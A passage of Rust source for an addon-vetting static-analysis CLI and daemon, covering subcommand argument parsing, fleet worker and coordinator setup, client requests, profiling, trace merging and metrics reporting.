    /// `--log FILE` / `--log-level`, same semantics as `serve`.
    log_file: Option<String>,
    log_level: Option<sigobs::Level>,
}

/// What `vet --client` should ask the daemon.
enum ClientAction {
    Vet(Vec<String>),
    Stats,
    Metrics,
    Shutdown,
}

struct ClientOptions {
    addr: String,
    action: ClientAction,
}

enum Mode {
    /// `--help`: usage on stdout, exit 0.
    Help,
    Run(Options),
    Serve(ServeOptions),
    /// `vet coordinate`: fleet coordinator (queue + shared result
    /// store + worker-join protocol).
    Coordinate(CoordinateOptions),
    Client(ClientOptions),
    /// `vet profile <file>`: deterministic per-function cost-attribution
    /// hotspot table (or the daemon's `job_profile` JSON with `--json`).
    Profile {
        file: String,
        top: usize,
        json: bool,
        config: AnalysisConfig,
    },
    /// `vet trace-job <job-id> --log FILE...`: one job's cross-node
    /// Chrome-trace timeline from per-node JSONL logs.
    TraceJob {
        job: String,
        logs: Vec<String>,
        out: Option<String>,
    },
    /// `vet metrics-report DIR [--gate RULES]`: render a metrics-history
    /// ring; with `--gate`, also evaluate alert rules (nonzero exit on a
    /// violated threshold).
    MetricsReport {
        dir: String,
        gate: Option<String>,
    },
    /// `vet corpus-snapshot`: write a drift-observatory snapshot.
    CorpusSnapshot {
        out: Option<String>,
        config: AnalysisConfig,
        summary_dir: Option<String>,
    },
    /// `vet corpus-diff OLD NEW`: classify drift between snapshots.
    CorpusDiff { old: String, new: String },
}

fn parse_usize(args: &mut impl Iterator<Item = String>, flag: &str) -> Result<usize, String> {
    let v = args.next().ok_or_else(|| format!("{flag} needs a value"))?;
    v.parse().map_err(|_| format!("bad {flag} value: {v}"))
}

fn parse_serve_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let mut addr: Option<String> = None;
    let mut stdio = false;
    let mut config = ServeConfig::default();
    let mut queue_cap: Option<usize> = None;
    let mut log_file: Option<String> = None;
    let mut log_level: Option<sigobs::Level> = None;
    let mut log_sample: Vec<(Option<String>, u64)> = Vec::new();
    let mut log_sample_threshold: Option<u64> = None;
    let mut summary_dir: Option<String> = None;
    let mut alert_rules: Option<sigobs::alerts::AlertRules> = None;
    let mut join: Option<String> = None;
    let mut node: Option<String> = None;
    let mut ladder = false;
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--addr" => addr = Some(args.next().ok_or("--addr needs HOST:PORT")?),
            "--stdio" => stdio = true,
            "--join" => join = Some(args.next().ok_or("--join needs HOST:PORT")?),
            "--node" => node = Some(args.next().ok_or("--node needs a NAME")?),
            "--workers" => config.workers = parse_usize(&mut args, "--workers")?.max(1),
            "--cache-cap" => config.cache_cap = parse_usize(&mut args, "--cache-cap")?,
            "--queue-cap" => queue_cap = Some(parse_usize(&mut args, "--queue-cap")?.max(1)),
            "--step-budget" => {
                config.analysis.step_budget = Some(parse_usize(&mut args, "--step-budget")?)
            }
            "--deadline-ms" => {
                config.analysis.deadline =
                    Some(Duration::from_millis(parse_usize(&mut args, "--deadline-ms")? as u64))
            }
            "--idle-timeout-ms" => {
                config.idle_timeout = Some(Duration::from_millis(
                    parse_usize(&mut args, "--idle-timeout-ms")?.max(1) as u64,
                ))
            }
            "--request-deadline-ms" => {
                config.request_deadline = Some(Duration::from_millis(
                    parse_usize(&mut args, "--request-deadline-ms")?.max(1) as u64,
                ))
            }
            "--k" => config.analysis.context_depth = parse_usize(&mut args, "--k")?,
            "--constant-strings" => config.analysis.string_domain = StringDomain::ConstantOnly,
            "--ladder" => ladder = true,
            "--log" => log_file = Some(args.next().ok_or("--log needs a FILE")?),
            "--log-level" => {
                let v = args.next().ok_or("--log-level needs a level")?;
                log_level =
                    Some(sigobs::Level::parse(&v).ok_or_else(|| format!("bad log level: {v}"))?)
            }
            "--log-sample" => {
                // `N` (legacy: the default rate, covering job_rejected)
                // or `EVENT=N` (a per-event rule); the flag repeats.
                let v = args.next().ok_or("--log-sample needs [EVENT=]N")?;
                let (event, n) = match v.split_once('=') {
                    Some((event, n)) if !event.is_empty() => (Some(event.to_owned()), n),
                    Some(_) => return Err(format!("bad --log-sample value: {v}")),
                    None => (None, v.as_str()),
                };
                let n: u64 =
                    n.parse().map_err(|_| format!("bad --log-sample value: {v}"))?;
                log_sample.push((event, n.max(1)));
            }
            "--log-sample-threshold" => {
                log_sample_threshold =
                    Some(parse_usize(&mut args, "--log-sample-threshold")? as u64)
            }
            "--metrics-dir" => {
                config.metrics_dir =
                    Some(args.next().ok_or("--metrics-dir needs a DIR")?.into())
            }
            "--metrics-interval-ms" => {
                config.metrics_interval = Duration::from_millis(
                    parse_usize(&mut args, "--metrics-interval-ms")?.max(1) as u64,
                )
            }
            "--summary-dir" => {
                summary_dir = Some(args.next().ok_or("--summary-dir needs a DIR")?)
            }
            "--alert-rules" => {
                let path = args.next().ok_or("--alert-rules needs a FILE")?;
                let text =
                    std::fs::read_to_string(&path).map_err(|e| format!("{path}: {e}"))?;
                alert_rules =
                    Some(sigobs::alerts::parse_rules(&text).map_err(|e| format!("{path}: {e}"))?);
            }
            "--help" | "-h" => return Ok(Mode::Help),
            other => return Err(format!("unknown serve flag: {other}")),
        }
    }
    if stdio && addr.is_some() {
        return Err("--addr and --stdio are mutually exclusive".to_owned());
    }
    if join.is_some() {
        // Worker mode: the coordinator owns the client-facing socket,
        // the queue, and the metrics surface; flags that configure
        // those belong on `vet coordinate`, not here.
        if addr.is_some() || stdio {
            return Err("--join is mutually exclusive with --addr/--stdio".to_owned());
        }
        for (set, flag) in [
            (queue_cap.is_some(), "--queue-cap"),
            (alert_rules.is_some(), "--alert-rules"),
            (config.metrics_dir.is_some(), "--metrics-dir"),
            (
                !log_sample.is_empty() || log_sample_threshold.is_some(),
                "--log-sample",
            ),
        ] {
            if set {
                return Err(format!("{flag} is not available in --join worker mode"));
            }
        }
    } else if node.is_some() {
        return Err("--node requires --join".to_owned());
    }
    if (!log_sample.is_empty() || log_sample_threshold.is_some())
        && log_file.is_none()
        && log_level.is_none()
    {
        return Err("--log-sample requires --log or --log-level".to_owned());
    }
    if alert_rules.is_some() && config.metrics_dir.is_none() {
        return Err("--alert-rules requires --metrics-dir".to_owned());
    }
    // Default queue bound scales with the pool, like ServeConfig::default.
    config.queue_cap = queue_cap.unwrap_or(config.workers * 8);
    // `--ladder`: the configured analysis becomes the final rung; the
    // cache (and, in worker mode, the shard) keys by the ladder's
    // canonical identity.
    if ladder {
        config.ladder = Some(ladder_for(&config.analysis));
    }
    let addr = if stdio {
        None
    } else {
        Some(addr.unwrap_or_else(|| "127.0.0.1:7161".to_owned()))
    };
    Ok(Mode::Serve(ServeOptions {
        addr,
        config,
        log_file,
        log_level,
        log_sample,
        log_sample_threshold,
        summary_dir,
        alert_rules,
        join,
        node,
    }))
}

/// `vet coordinate` arguments.
fn parse_coordinate_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let mut addr = "127.0.0.1:7171".to_owned();
    let mut config = sigfleet::FleetConfig::default();
    let mut log_file: Option<String> = None;
    let mut log_level: Option<sigobs::Level> = None;
    let mut ladder = false;
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--addr" => addr = args.next().ok_or("--addr needs HOST:PORT")?,
            "--queue-cap" => config.queue_cap = parse_usize(&mut args, "--queue-cap")?.max(1),
            "--cache-cap" => config.result_cap = parse_usize(&mut args, "--cache-cap")?,
            "--slots" => config.slots = parse_usize(&mut args, "--slots")?.max(1),
            "--heartbeat-ms" => {
                config.heartbeat =
                    Duration::from_millis(parse_usize(&mut args, "--heartbeat-ms")?.max(1) as u64)
            }
            "--reap-ms" => {
                config.reap_after =
                    Duration::from_millis(parse_usize(&mut args, "--reap-ms")?.max(1) as u64)
            }
            "--step-budget" => {
                config.analysis.step_budget = Some(parse_usize(&mut args, "--step-budget")?)
            }
            "--deadline-ms" => {
                config.analysis.deadline =
                    Some(Duration::from_millis(parse_usize(&mut args, "--deadline-ms")? as u64))
            }
            "--k" => config.analysis.context_depth = parse_usize(&mut args, "--k")?,
            "--constant-strings" => config.analysis.string_domain = StringDomain::ConstantOnly,
            "--ladder" => ladder = true,
            "--log" => log_file = Some(args.next().ok_or("--log needs a FILE")?),
            "--log-level" => {
                let v = args.next().ok_or("--log-level needs a level")?;
                log_level =
                    Some(sigobs::Level::parse(&v).ok_or_else(|| format!("bad log level: {v}"))?)
            }
            "--metrics-dir" => {
                config.metrics_dir =
                    Some(args.next().ok_or("--metrics-dir needs a DIR")?.into())
            }
            "--metrics-interval-ms" => {
                config.metrics_interval = Duration::from_millis(
                    parse_usize(&mut args, "--metrics-interval-ms")?.max(1) as u64,
                )
            }
            "--help" | "-h" => return Ok(Mode::Help),
            other => return Err(format!("unknown coordinate flag: {other}")),
        }
    }
    // A reap window at or below the heartbeat interval reaps every
    // healthy worker between two beats.
    if config.reap_after <= config.heartbeat {
        return Err("--reap-ms must exceed --heartbeat-ms".to_owned());
    }
    // Workers must join with the matching `serve --join --ladder`.
    if ladder {
        config.ladder = Some(ladder_for(&config.analysis));
    }
    Ok(Mode::Coordinate(CoordinateOptions {
        addr,
        config,
        log_file,
        log_level,
    }))
}

/// `vet corpus-snapshot` / `vet corpus-diff` arguments.
fn parse_corpus_snapshot_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let mut out: Option<String> = None;
    let mut config = AnalysisConfig::default();
    let mut summary_dir: Option<String> = None;
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--out" => out = Some(args.next().ok_or("--out needs a FILE")?),
            "--k" => config.context_depth = parse_usize(&mut args, "--k")?,
            "--constant-strings" => config.string_domain = StringDomain::ConstantOnly,
            "--step-budget" => {
                config.step_budget = Some(parse_usize(&mut args, "--step-budget")?)
            }
            "--summary-dir" => {
                summary_dir = Some(args.next().ok_or("--summary-dir needs a DIR")?)
            }
            "--help" | "-h" => return Ok(Mode::Help),
            other => return Err(format!("unknown corpus-snapshot flag: {other}")),
        }
    }
    Ok(Mode::CorpusSnapshot { out, config, summary_dir })
}

/// `vet profile` arguments.
fn parse_profile_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let mut file: Option<String> = None;
    let mut top = 10usize;
    let mut json = false;
    let mut config = AnalysisConfig::default();
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--top" => top = parse_usize(&mut args, "--top")?.max(1),
            "--json" => json = true,
            "--k" => config.context_depth = parse_usize(&mut args, "--k")?,
            "--constant-strings" => config.string_domain = StringDomain::ConstantOnly,
            "--step-budget" => {
                config.step_budget = Some(parse_usize(&mut args, "--step-budget")?)
            }
            "--help" | "-h" => return Ok(Mode::Help),
            other if !other.starts_with('-') && file.is_none() => file = Some(other.to_owned()),
            other => return Err(format!("unknown profile flag: {other}")),
        }
    }
    let file = file.ok_or("profile needs an <addon.js> file")?;
    Ok(Mode::Profile {
        file,
        top,
        json,
        config,
    })
}

/// `vet trace-job` arguments.
fn parse_trace_job_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let mut job: Option<String> = None;
    let mut logs: Vec<String> = Vec::new();
    let mut out: Option<String> = None;
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--log" => logs.push(args.next().ok_or("--log needs a FILE")?),
            "--out" => out = Some(args.next().ok_or("--out needs a FILE")?),
            "--help" | "-h" => return Ok(Mode::Help),
            other if !other.starts_with('-') && job.is_none() => job = Some(other.to_owned()),
            other => return Err(format!("unknown trace-job flag: {other}")),
        }
    }
    let job = job.ok_or("trace-job needs a <job-id>")?;
    if logs.is_empty() {
        return Err("trace-job needs at least one --log FILE".to_owned());
    }
    Ok(Mode::TraceJob { job, logs, out })
}

fn parse_client_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let addr = args.next().ok_or("--client needs HOST:PORT")?;
    let mut files = Vec::new();
    let mut action = None;
    for arg in args {
        match arg.as_str() {
            "--stats" => action = Some(ClientAction::Stats),
            "--metrics" => action = Some(ClientAction::Metrics),
            "--shutdown" => action = Some(ClientAction::Shutdown),
            "--help" | "-h" => return Ok(Mode::Help),
            other if !other.starts_with('-') => files.push(other.to_owned()),
            other => return Err(format!("unknown client flag: {other}")),
        }
    }
    let action = match action {
        Some(a) if files.is_empty() => a,
        Some(_) => return Err("--stats/--metrics/--shutdown take no files".to_owned()),
        None if files.is_empty() => {
            return Err(
                "--client needs files to vet, --stats, --metrics, or --shutdown".to_owned()
            )
        }
        None => ClientAction::Vet(files),
    };
    Ok(Mode::Client(ClientOptions { addr, action }))
}

fn parse_args() -> Result<Mode, String> {
    let mut opts = Options {
        json: false,
        dot: false,
        explain: false,
        corpus: false,
        sequential: false,
        context_depth: 1,
        string_domain: StringDomain::Prefix,
        trace: None,
        summary_dir: None,
        ladder: false,
        file: None,
    };
    let mut args = std::env::args().skip(1).peekable();
    // Subcommand-style modes are decided by the first argument.
    match args.peek().map(String::as_str) {
        Some("serve") => {
            args.next();
            return parse_serve_args(args);
        }
        Some("coordinate") => {
            args.next();
            return parse_coordinate_args(args);
        }
        Some("--client") => {
            args.next();
            return parse_client_args(args);
        }
        Some("profile") => {
            args.next();
            return parse_profile_args(args);
        }
        Some("trace-job") => {
            args.next();
            return parse_trace_job_args(args);
        }
        Some("metrics-report") => {
            args.next();
            let dir = args.next().ok_or("metrics-report needs a DIR")?;
            let mut gate = None;
            while let Some(arg) = args.next() {
                match arg.as_str() {
                    "--gate" => gate = Some(args.next().ok_or("--gate needs a RULES file")?),
                    "--help" | "-h" => return Ok(Mode::Help),
                    other => return Err(format!("unknown metrics-report flag: {other}")),
                }
            }
            return Ok(Mode::MetricsReport { dir, gate });
        }
        Some("corpus-snapshot") => {
            args.next();
            return parse_corpus_snapshot_args(args);
        }
        Some("corpus-diff") => {
            args.next();
            let old = args.next().ok_or("corpus-diff needs OLD and NEW files")?;
            let new = args.next().ok_or("corpus-diff needs OLD and NEW files")?;
            return Ok(Mode::CorpusDiff { old, new });
        }
        _ => {}
    }
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--json" => opts.json = true,
            "--dot" => opts.dot = true,
            "--explain" => opts.explain = true,
            "--corpus" => opts.corpus = true,
            "--sequential" => opts.sequential = true,
            "--constant-strings" => opts.string_domain = StringDomain::ConstantOnly,
            "--k" => {
                let v = args.next().ok_or("--k needs a value")?;
                opts.context_depth = v.parse().map_err(|_| format!("bad depth: {v}"))?;
            }
            "--trace" => opts.trace = Some(args.next().ok_or("--trace needs a FILE")?),
            "--summary-dir" => {
                opts.summary_dir = Some(args.next().ok_or("--summary-dir needs a DIR")?)
            }
            "--ladder" => opts.ladder = true,
            "--help" | "-h" => return Ok(Mode::Help),
            other if !other.starts_with('-') => opts.file = Some(other.to_owned()),
            other => return Err(format!("unknown flag: {other}")),
        }
    }
    if !opts.corpus && opts.file.is_none() {
        return Err("no input file (try --help)".to_owned());
    }
    if opts.corpus && opts.trace.is_some() {
        return Err("--trace is single-file only (corpus runs are parallel)".to_owned());
    }
    // The ladder driver runs a pipeline per rung; a single Chrome trace
    // or a single summary store cannot attribute across rungs yet.
    if opts.ladder && (opts.trace.is_some() || opts.summary_dir.is_some()) {
        return Err("--ladder is mutually exclusive with --trace/--summary-dir".to_owned());
    }
    Ok(Mode::Run(opts))
}

/// Everything one addon's vetting produced, buffered so corpus mode can
/// run addons concurrently and still print deterministically.
struct VetOutcome {
    clean: bool,
    report: String,
    warnings: String,
}

/// On-disk summary stores opened by the CLI keep this many entries
/// (an addon market's working set of recently resubmitted addons).
const SUMMARY_STORE_CAP: usize = 4096;

fn vet_source(name: &str, source: &str, opts: &Options) -> Result<VetOutcome, String> {
    let config = AnalysisConfig::default()
        .with_context_depth(opts.context_depth)
        .with_string_domain(opts.string_domain);
    // `--ladder`: human-mode annotation of which tier resolved the
    // addon and the escalations taken on the way.
    let mut ladder_note: Option<String> = None;
    let report = if opts.ladder {
        let run = addon_sig::ladder::vet_ladder(source, &ladder_for(&config));
        let mut note = String::from("  [ladder:");
        for e in &run.escalations {
            write!(note, " {}->{} ({});", e.from, e.to, e.reason.as_str()).unwrap();
        }
        write!(note, " resolved at {}]", run.tier).unwrap();
        ladder_note = Some(note);
        run.result.map_err(|e| format!("{name}: {e}"))?
    } else {
        let mut pipeline = addon_sig::Pipeline::new().config(config);
        if let Some(dir) = &opts.summary_dir {
            let store = jsanalysis::DiskSummaryStore::new(dir, SUMMARY_STORE_CAP)
                .map_err(|e| format!("{dir}: {e}"))?;
            pipeline = pipeline.summary_store(std::sync::Arc::new(store));
        }
        // `--trace` attaches a Chrome trace_event writer to the pipeline
        // (single-file mode only, enforced at argument parsing).
        let mut writer = opts.trace.as_ref().map(|_| ChromeTraceWriter::new());
        let result = match &mut writer {
            Some(w) => pipeline.tracer(w).run(source),
            None => pipeline.run(source),
        };
        let report = result.map_err(|e| format!("{name}: {e}"))?;
        if let (Some(path), Some(w)) = (&opts.trace, &writer) {
            std::fs::write(path, w.to_json_string()).map_err(|e| format!("{path}: {e}"))?;
        }
        report
    };
    let mut out = String::new();
    if opts.json {
        writeln!(out, "{}", report.signature.to_json()).unwrap();
    } else if opts.dot {
        writeln!(out, "{}", jspdg::pdg_to_dot(&report.lowered.program, &report.pdg)).unwrap();
    } else {
        writeln!(out, "=== {name} ===").unwrap();
        if report.signature.is_empty() {
            writeln!(out, "  (no interesting flows, sinks, or API uses)").unwrap();
        } else {
            write!(out, "{}", report.signature).unwrap();
        }
        writeln!(
            out,
            "  [P1 {:?}, P2 {:?}, P3 {:?}; {} PDG edges]",
            report.timings.p1,
            report.timings.p2,
            report.timings.p3,
            report.pdg.edge_count()
        )
        .unwrap();
        if let Some(note) = &ladder_note {
            writeln!(out, "{note}").unwrap();
        }
        if let Some(stats) = &report.incremental {
            writeln!(
                out,
                "  [summary store: {} hits, {} misses, {}/{} functions re-analyzed{}]",
                stats.summary_hits,
                stats.summary_misses,
                stats.functions_reanalyzed,
                stats.total_functions,
                if stats.abandoned > 0 { "; warm run abandoned" } else { "" }
            )
            .unwrap();
        }
        if opts.explain {
            explain_flows(&report, &mut out);
        }
    }
    // Restricted dynamic-code APIs are grounds for rejection (Section 2).
    let dynamic_code = report
        .signature
        .apis
        .iter()
        .any(|a| a == "eval" || a == "Function" || a == "setTimeout$string");
    let mut warnings = String::new();
    if dynamic_code {
        writeln!(warnings, "{name}: uses restricted dynamic-code APIs").unwrap();
    }
    Ok(VetOutcome {
        clean: !dynamic_code,
        report: out,
        warnings,
    })
}

/// Appends each reported flow's recorded PDG provenance — the path the
/// propagation actually took when it first established the flow's type —
/// as an annotated-source excerpt.
fn explain_flows(report: &addon_sig::Report, out: &mut String) {
    for (entry, path) in &report.signature.provenance {
        writeln!(out, "  explain {entry}:").unwrap();
        for step in path {
            let text = jsir::pretty::stmt_to_string(&report.lowered.program, step.stmt);
            match step.edge {
                Some(a) => {
                    writeln!(out, "    L{:<4} {text}  --[{a}]-->", step.line).unwrap()
                }
                None => writeln!(out, "    L{:<4} {text}", step.line).unwrap(),
            }
        }
    }
}

/// Vets every corpus addon, concurrently unless `--sequential`, and
/// prints the buffered outcomes in corpus order.
fn vet_corpus(opts: &Options) -> bool {
    let addons = corpus::addons();
    let outcomes: Vec<Result<VetOutcome, String>> = if opts.sequential {
        addons
            .iter()
            .map(|a| vet_source(a.name, a.source, opts))
            .collect()
    } else {
        std::thread::scope(|s| {
            let handles: Vec<_> = addons
                .iter()
                .map(|a| s.spawn(move || vet_source(a.name, a.source, opts)))
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("vet worker panicked"))
                .collect()
        })
    };
    let mut ok = true;
    for outcome in outcomes {
        match outcome {
            Ok(o) => {
                print!("{}", o.report);
                eprint!("{}", o.warnings);
                ok &= o.clean;
            }
            Err(e) => {
                eprintln!("{e}");
                ok = false;
            }
        }
    }
    ok
}

/// Runs the vetting daemon until a `shutdown` request (TCP) or stdin EOF
/// (`--stdio`).
fn run_serve(mut opts: ServeOptions) -> Result<(), String> {
    // `--join ADDR`: the daemon becomes a fleet worker instead of
    // serving clients itself.
    if let Some(coordinator) = opts.join.take() {
        return run_worker(opts, coordinator);
    }
    // An operator-facing daemon dumps its metrics registry on shutdown;
    // embedded servers (tests, benches) keep the default quiet exit.
    opts.config.dump_metrics_on_shutdown = true;
    let level = opts.log_level.unwrap_or(sigobs::Level::Info);
    let log = match &opts.log_file {
        Some(path) => {
            Some(sigobs::EventLog::to_file(path, level).map_err(|e| format!("{path}: {e}"))?)
        }
        // `--log-level` without `--log`: in-memory log, tail in `stats`.
        None if opts.log_level.is_some() => Some(sigobs::EventLog::in_memory(level)),
        None => None,
    };
    // `--log-sample [EVENT=]N`: under overload, degrade the named event
    // streams to 1-in-N with counted `suppressed` records instead of
    // amplifying the overload with one log write per shed job.
    let sampling = !opts.log_sample.is_empty() || opts.log_sample_threshold.is_some();
    let log = log.map(|l| {
        if !sampling {
            return l;
        }
        let mut policy = sigobs::SamplePolicy {
            threshold: opts.log_sample_threshold.unwrap_or(100),
            ..sigobs::SamplePolicy::default()
        };
        for (event, n) in &opts.log_sample {
            match event {
                // Bare N: the default rate (covers job_rejected).
                None => policy.keep_one_in = *n,
                Some(e) => policy = policy.with_rule(e, *n),
            }
        }
        // Default debug-span policy: a debug-level log under sampling
        // also rate-limits the high-volume per-phase span stream,
        // unless an explicit `span=N` rule already tuned it.
        if level == sigobs::Level::Debug && !policy.events.iter().any(|e| e == "span") {
            let rate = policy.keep_one_in;
            policy = policy.with_rule("span", rate);
        }
        l.with_sampling(policy)
    });
    let log = log.map(std::sync::Arc::new);
    opts.config.log = log.clone();
    opts.config.alert_rules = opts.alert_rules.take();
    // `--summary-dir`: swap in the incremental engine over a shared
    // on-disk summary store, so resubmitted edits splice stored
    // per-function summaries instead of re-running the full fixpoint.
    let store: Option<std::sync::Arc<dyn SummaryStore>> = match &opts.summary_dir {
        Some(dir) => Some(std::sync::Arc::new(
            jsanalysis::DiskSummaryStore::new(dir, SUMMARY_STORE_CAP)
                .map_err(|e| format!("{dir}: {e}"))?,
        )),
        None => None,
    };
    let builder = sigserve::Server::builder().config(opts.config);
    let builder = match store {
        Some(store) => builder.analyze_traced(move |s, c, m, t| {
            addon_sig::service_engine_incremental(s, c, m, &store, log.as_deref(), t)
        }),
        None => builder.analyze_traced(addon_sig::service_engine_traced),
    };
    match opts.addr {
        Some(addr) => {
            let server = builder
                .addr(&addr)
                .start()
                .map_err(|e| format!("bind {addr}: {e}"))?;
            eprintln!("sigserve listening on {}", server.local_addr());
            server.join(); // returns after a shutdown request
            Ok(())
        }
        None => builder
            .stdio()
            .run()
            .map_err(|e| format!("stdio serve: {e}")),
    }
}

/// Joins the fleet at `coordinator` as a worker: claims vet jobs over
/// the NDJSON protocol, analyzes them locally (same engine and budgets
/// as a standalone daemon, including the `--summary-dir` incremental
/// store), and posts completions back. Runs until the coordinator
/// shuts the fleet down or the connection drops.
fn run_worker(opts: ServeOptions, coordinator: String) -> Result<(), String> {
    let level = opts.log_level.unwrap_or(sigobs::Level::Info);
    let log = match &opts.log_file {
        Some(path) => {
            Some(sigobs::EventLog::to_file(path, level).map_err(|e| format!("{path}: {e}"))?)
        }
        None if opts.log_level.is_some() => Some(sigobs::EventLog::in_memory(level)),
        None => None,
    };
    let log = log.map(std::sync::Arc::new);
    let mut cfg = sigfleet::WorkerConfig::new(coordinator.clone());
    cfg.node = opts
        .node
        .unwrap_or_else(|| format!("worker-{}", std::process::id()));
    cfg.threads = opts.config.workers;
    cfg.cache_cap = opts.config.cache_cap;
    cfg.analysis = opts.config.analysis.clone();
    cfg.ladder = opts.config.ladder.clone();
    cfg.log = log.clone();
    let store: Option<std::sync::Arc<dyn SummaryStore>> = match &opts.summary_dir {
        Some(dir) => Some(std::sync::Arc::new(
            jsanalysis::DiskSummaryStore::new(dir, SUMMARY_STORE_CAP)
                .map_err(|e| format!("{dir}: {e}"))?,
        )),
        None => None,
    };
    let worker = match store {
        Some(store) => sigfleet::Worker::join_fleet(cfg, move |s, c, m, t| {
            addon_sig::service_engine_incremental(s, c, m, &store, log.as_deref(), t)
        }),
        None => sigfleet::Worker::join_fleet(cfg, addon_sig::service_engine_traced),
    }
    .map_err(|e| format!("join {coordinator}: {e}"))?;
    eprintln!(
        "sigserve worker {} (cache slot {}/{}) joined fleet at {coordinator}",
        worker.id(),
        worker.slot(),
        worker.slots()
    );
    worker.join(); // returns at fleet shutdown or a dropped coordinator
    Ok(())
}

/// Runs the fleet coordinator until a client `shutdown` request.
fn run_coordinate(mut opts: CoordinateOptions) -> Result<(), String> {
    let level = opts.log_level.unwrap_or(sigobs::Level::Info);
    let log = match &opts.log_file {
        Some(path) => {
            Some(sigobs::EventLog::to_file(path, level).map_err(|e| format!("{path}: {e}"))?)
        }
        None if opts.log_level.is_some() => Some(sigobs::EventLog::in_memory(level)),
        None => None,
    };
    opts.config.log = log.map(std::sync::Arc::new);
    let coordinator = sigfleet::Coordinator::bind(&opts.addr, opts.config)
        .map_err(|e| format!("bind {}: {e}", opts.addr))?;
    eprintln!(
        "sigfleet coordinator listening on {}",
        coordinator.local_addr()
    );
    coordinator.join(); // returns after a shutdown request
    Ok(())
}

/// Speaks the NDJSON protocol to a running daemon; prints one compact
/// JSON response per line. Files are read locally and sent inline, so
/// the daemon need not share a filesystem with the client.
fn run_client(opts: ClientOptions) -> Result<bool, String> {
    let mut client =
        Client::connect(&opts.addr).map_err(|e| format!("connect {}: {e}", opts.addr))?;
    let mut ok = true;
    match opts.action {
        ClientAction::Vet(files) => {
            for path in files {
                let source =
                    std::fs::read_to_string(&path).map_err(|e| format!("{path}: {e}"))?;
                let resp = client
                    .vet_source(Some(&path), &source)
                    .map_err(|e| format!("{path}: {e}"))?;
                println!("{}", resp.to_string_compact());
                ok &= resp["verdict"] == "ok";
            }
        }
        ClientAction::Stats => {
            let resp = client.stats().map_err(|e| e.to_string())?;
            println!("{}", resp.to_string_compact());
        }
        ClientAction::Metrics => {
            // Print the Prometheus text body itself (not the JSON
            // envelope): the output pastes straight into scrape tooling.
            let resp = client.metrics().map_err(|e| e.to_string())?;
            match resp["prometheus"].as_str() {
                Some(text) => print!("{text}"),
                None => return Err(format!("bad metrics response: {}", resp.to_string_compact())),
            }
        }
        ClientAction::Shutdown => {
            let resp = client.shutdown().map_err(|e| e.to_string())?;
            println!("{}", resp.to_string_compact());
        }
    }
    Ok(ok)
}

/// `vet profile <file>`: runs the pipeline with cost attribution on
/// (worklist order pinned to RPO — see [`addon_sig::profile_addon`])
/// and prints the deterministic hotspot table, or the daemon's
/// `job_profile` JSON document with `--json`. A budget-exhausted run is
/// not a failure here: the table *is* the postmortem.
fn run_profile(file: &str, top: usize, json: bool, config: &AnalysisConfig) -> Result<(), String> {
    let source = std::fs::read_to_string(file).map_err(|e| format!("{file}: {e}"))?;
    let profile = addon_sig::profile_addon(&source, config).map_err(|e| format!("{file}: {e}"))?;
    if json {
        println!(
            "{}",
            sigserve::profile_json(&profile, top).to_string_pretty()
        );
    } else {
        print!("{}", profile.render_table(top));
    }
    Ok(())
}

/// `vet trace-job <job-id>`: merges the per-node JSONL logs (node name
/// = file stem) causally, reconstructs the job's lifecycle intervals,
/// and writes the Chrome trace document to `--out` (or stdout).
fn run_trace_job(job: &str, logs: &[String], out: Option<&str>) -> Result<(), String> {
    let mut bodies: Vec<(String, String)> = Vec::new();
    for path in logs {
        let text = std::fs::read_to_string(path).map_err(|e| format!("{path}: {e}"))?;
        let node = std::path::Path::new(path)
            .file_stem()
            .and_then(|s| s.to_str())
            .unwrap_or(path.as_str())
            .to_owned();
        bodies.push((node, text));
    }
    let pairs: Vec<(&str, &str)> = bodies
        .iter()
        .map(|(n, t)| (n.as_str(), t.as_str()))
        .collect();
    let merged = sigobs::merge_fleet_logs(&pairs)?;
    let trace = sigobs::job_chrome_trace(&merged, job)?;
    match out {
        Some(path) => {
            std::fs::write(path, trace.as_bytes()).map_err(|e| format!("{path}: {e}"))?;
            eprintln!("wrote {path} (load it at chrome://tracing or in Perfetto)");
            Ok(())
        }
        None => {
            println!("{trace}");
            Ok(())
        }
    }
}

/// Renders a metrics-history directory (`vet serve --metrics-dir`) as
/// counter rates over the recorded window plus latency percentiles from
/// the newest snapshot. With a `--gate RULES` file, also evaluates the
/// alert rules and returns whether the gate passed.
fn run_metrics_report(dir: &str, gate: Option<&str>) -> Result<bool, String> {
    let records = sigobs::MetricsHistory::load(dir).map_err(|e| format!("{dir}: {e}"))?;
    let (Some(first), Some(last)) = (records.first(), records.last()) else {
        return Err(format!("{dir}: no metrics snapshots"));
    };
    let span_ms = last.unix_ms.saturating_sub(first.unix_ms);
    let span_s = span_ms as f64 / 1000.0;
    println!(
        "metrics history: {} snapshots over {:.1}s (seq {}..{})",
        records.len(),
        span_s,
        first.seq,
        last.seq
    );
    println!("\ncounters (window delta and rate):");
    let first_counters: std::collections::BTreeMap<&str, u64> = first
        .snapshot
        .counters
        .iter()
        .map(|(n, v)| (n.as_str(), *v))
        .collect();
    for (name, end) in &last.snapshot.counters {
        let start = first_counters.get(name.as_str()).copied().unwrap_or(0);
        let delta = end.saturating_sub(start);
        if span_s > 0.0 {
            println!("  {name:<32} {end:>10}  (+{delta}, {:.2}/s)", delta as f64 / span_s);
        } else {
            println!("  {name:<32} {end:>10}  (+{delta})");
        }
    }
    // Percentiles are inclusive upper bounds of log2 buckets (within 2x
    // of the true quantile; exact when one value dominates) — hence the
    // "<=" rendering below.
    println!("\nhistograms (newest snapshot; percentiles are inclusive log2-bucket upper bounds):");
    for h in &last.snapshot.histograms {
        let mean = if h.count > 0 { h.sum / h.count } else { 0 };
        let pct = |q: f64| {
            h.percentile(q)
                .map(|v| v.to_string())
                .unwrap_or_else(|| "-".to_owned())
        };
        println!(
            "  {:<32} count={} mean={} p50<={} p90<={} p99<={}",
            h.name,
            h.count,
            mean,
